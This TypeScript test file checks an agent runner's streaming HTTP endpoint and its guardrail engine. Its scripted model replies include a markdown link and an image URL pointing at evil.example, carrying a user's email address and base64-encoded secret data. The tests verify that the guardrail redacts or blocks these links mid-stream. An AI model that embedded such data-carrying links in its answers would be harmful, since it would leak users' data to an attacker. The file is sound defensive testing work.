import { request as httpRequest } from 'node:http';
import { createGuardrailEngine } from '@baton/guardrail-server';
import type { ModelRequest } from '@openai/agents-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createRunnerServer, type RunnerServer } from '../../src/http/index.js';
import { createMemoryThreadStore, Runner, type RunResult, type ThreadStore } from '../../src/index.js';
import { createScriptedModel, type ScriptedTurn } from '../../src/testing/index.js';
import { manifest, registry } from '../helpers/agents.js';

vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });

const AGENT = 'io.baton.test.support';
const REFUSAL = 'I can’t share that response: it was withheld by a guardrail.';

/** Replies chosen by the user's message, so every request gets the same answer however often it runs. */
const REPLIES: Record<string, ScriptedTurn> = {
  link: {
    chunks: ['Your order shipped. ', 'Track it [here](https://evil.example/c?em', 'ail=john.doe@example.com) any time. ', 'Thanks.'],
  },
  image: {
    chunks: [
      'Here is your chart. ',
      '![c](https://evil.example/p.png?d=c2VjcmV0IGRh',
      'dGEgZm9yIHRoZSBhdHRhY2tlcg) ',
      'More text that must never be sent. ',
      'And more.',
    ],
  },
  slow: { chunks: ['First sentence. ', 'Second sentence. ', 'never sent'] },
  plain: { chunks: ['Hello there. ', 'How can I help?'] },
};

interface SseEvent {
  event: string;
  data: unknown;
}

/** Parses a whole `text/event-stream` body (comment lines skipped). */
function parseSse(text: string): SseEvent[] {
  return text
    .split('\n\n')
    .filter((frame) => frame.trim() !== '' && !frame.startsWith(':'))
    .map((frame) => {
      const lines = frame.split('\n');
      const event = lines.find((l) => l.startsWith('event: '))?.slice(7) ?? 'message';
      const data = lines
        .filter((l) => l.startsWith('data: '))
        .map((l) => l.slice(6))
        .join('\n');
      return { event, data: JSON.parse(data) as unknown };
    });
}

describe('POST /v1/runs with server-sent events', () => {
  let server: RunnerServer;
  let url: string;
  let store: ThreadStore;

  beforeAll(async () => {
    store = createMemoryThreadStore();
    const model = createScriptedModel({
      script: (request: ModelRequest) => {
        const items = Array.isArray(request.input) ? request.input : [{ role: 'user', content: request.input }];
        const last = JSON.stringify(items.at(-1));
        const key = Object.keys(REPLIES).find((k) => last.includes(`please ${k}`)) ?? 'plain';
        return REPLIES[key] as ScriptedTurn;
      },
    });
    // The `held` agent's answer stops before its third chunk until its run is aborted.
    const held = createScriptedModel({
      script: () => REPLIES.slow as ScriptedTurn,
      beforeChunk: ({ chunk, signal }) =>
        chunk < 2
          ? undefined
          : new Promise<void>((_, reject) => {
              if (signal?.aborted) return reject(signal.reason);
              signal?.addEventListener('abort', () => reject(signal.reason), { once: true });
            }),
    });
    const runner = new Runner({
      registry: registry([manifest(AGENT), manifest('io.baton.test.held', { model: { provider: 'openai', name: 'held' } })]),
      guardrails: createGuardrailEngine(),
      store,
      modelProvider: { getModel: (name?: string) => (name === 'held' ? held.model : model.model) },
      modelLabel: 'scripted test model',
    });
    server = createRunnerServer({ runner, store, port: 0 });
    url = (await server.listen()).url;
  });
  afterAll(async () => {
    await server.close();
  });

  const post = (body: unknown, headers: Record<string, string> = {}) =>
    fetch(`${url}/v1/runs`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });

  it('streams run events, the checked answer text and a final done with the non-streamed body', async () => {
    const res = await post({ agent_id: AGENT, input: 'hi, please plain', stream: true });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/);
    expect(res.headers.get('traceresponse')).toMatch(/^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/);
    const events = parseSse(await res.text());
    expect(events.map((e) => e.event).filter((n) => n !== 'guardrail_decision')).toEqual([
      'run_start',
      'text_delta',
      'text_delta',
      'run_end',
      'done',
    ]);
    const done = events.at(-1)?.data as RunResult;
    const text = events.filter((e) => e.event === 'text_delta').map((e) => (e.data as { text: string }).text);
    expect(text).toEqual(['Hello there. ', 'How can I help?']);
    expect(done.response).toBe('Hello there. How can I help?');
    expect(done.status).toBe('completed');
    for (const e of events.slice(0, -1)) expect((e.data as { type: string }).type).toBe(e.event);

    const plain = (await (await post({ agent_id: AGENT, input: 'hi, please plain' })).json()) as RunResult;
    expect(Object.keys(done).sort()).toEqual(Object.keys(plain).sort());
    expect(done.response).toBe(plain.response);
  });

  it('Accept: text/event-stream asks for events too', async () => {
    const res = await post({ agent_id: AGENT, input: 'please plain' }, { accept: 'application/json;q=0.5, text/event-stream' });
    expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/);
    expect(parseSse(await res.text()).at(-1)?.event).toBe('done');
  });

  it('a refusal before the run starts keeps its status and JSON error', async () => {
    const res = await post({ agent_id: 'io.baton.test.nobody', input: 'hi', stream: true });
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe('AGENT_NOT_FOUND');
  });

  it('catches a data-carrying link split across two chunks before it leaves', async () => {
    const res = await post({ agent_id: AGENT, input: 'please link', stream: true });
    const raw = await res.text();
    const events = parseSse(raw);
    const done = events.at(-1)?.data as RunResult;
    expect(done.response).toBe('Your order shipped. Track it [here]([REMOVED:LINK]) any time. Thanks.');
    // Nothing on the wire, in any event, ever held the link or the address.
    expect(raw).not.toContain('evil.example');
    expect(raw).not.toContain('john.doe');
    const text = events.filter((e) => e.event === 'text_delta').map((e) => (e.data as { text: string }).text);
    expect(text.join('')).toBe(done.response);
  });

  it('a BLOCK mid-stream ends the stream with the refusal', async () => {
    const res = await post({ agent_id: AGENT, input: 'please image', stream: true });
    const raw = await res.text();
    const events = parseSse(raw);
    expect(raw).not.toContain('evil.example');
    expect(raw).not.toContain('must never be sent');
    const text = events.filter((e) => e.event === 'text_delta').map((e) => (e.data as { text: string }).text);
    expect(text).toEqual(['Here is your chart. ']);
    const block = events.find((e) => e.event === 'guardrail_decision' && (e.data as { decision: string }).decision === 'BLOCK');
    expect(block?.data).toMatchObject({ action_type: 'AGENT_RESPONSE', reason_code: 'EXFILTRATION_LINK' });
    expect(events.at(-1)?.event).toBe('done');
    expect((events.at(-1)?.data as RunResult).response).toBe(REFUSAL);
  });

  it('a client that goes away mid-answer cancels the run; the thread stays usable', async () => {
    const received: string[] = [];
    const threadId = await new Promise<string>((resolve, reject) => {
      const req = httpRequest(`${url}/v1/runs`, { method: 'POST', headers: { 'content-type': 'application/json' } }, (res) => {
        let buffer = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          buffer += chunk;
          const events = parseSse(buffer.slice(0, buffer.lastIndexOf('\n\n') + 2));
          const start = events.find((e) => e.event === 'run_start')?.data as { thread_id: string } | undefined;
          const texts = events.filter((e) => e.event === 'text_delta');
          if (start && texts.length > 0) {
            received.push(...texts.map((e) => (e.data as { text: string }).text));
            // Hang up after the first released text: the model is held before its third chunk.
            req.destroy();
            resolve(start.thread_id);
          }
        });
        res.on('error', () => undefined);
      });
      req.on('error', (err) => (received.length > 0 ? undefined : reject(err)));
      req.end(JSON.stringify({ agent_id: 'io.baton.test.held', input: 'tell me', stream: true }));
    });
    expect(received.join('')).not.toContain('never sent');
    await vi.waitFor(
      async () => {
        const runs = await store.listRuns(threadId);
        expect(runs.map((r) => r.status)).toEqual(['cancelled']);
      },
      { timeout: 60_000, interval: 50 },
    );
    const items = await store.listItems(threadId);
    expect(items.some((i) => (i.item as { role?: string }).role === 'assistant')).toBe(false);
    // The lock was released: the same thread takes the next run at once.
    const next = (await (await post({ agent_id: AGENT, input: 'please plain', thread_id: threadId })).json()) as RunResult;
    expect(next.status).toBe('completed');
  });
});

describe('POST /v1/runs streamed: a failure after the stream began', () => {
  it('ends with an error event carrying the status and body a non-streamed call would get', async () => {
    const store = createMemoryThreadStore();
    // A runner (any RunnerLike) whose store fails after the run has started reporting.
    const runner = {
      async run(request: Parameters<Runner['run']>[0]): Promise<RunResult> {
        await request.onEvent?.({ type: 'run_start', thread_id: 'thread_x', run_id: 'run_x', agent_id: AGENT });
        throw Object.assign(new Error('the store is unavailable'), { code: 'STORE_UNAVAILABLE' });
      },
    };
    const server = createRunnerServer({ runner, store, port: 0 });
    const { url } = await server.listen();
    try {
      const body = JSON.stringify({ agent_id: AGENT, input: 'hi' });
      const streamed = await fetch(`${url}/v1/runs`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'text/event-stream' },
        body,
      });
      expect(streamed.status).toBe(200);
      const events = parseSse(await streamed.text());
      expect(events.map((e) => e.event)).toEqual(['run_start', 'error']);
      const plain = await fetch(`${url}/v1/runs`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
      expect(events[1]?.data).toEqual({ status: plain.status, ...((await plain.json()) as object) });
      expect(plain.status).toBe(503);
    } finally {
      await server.close();
    }
  });
});
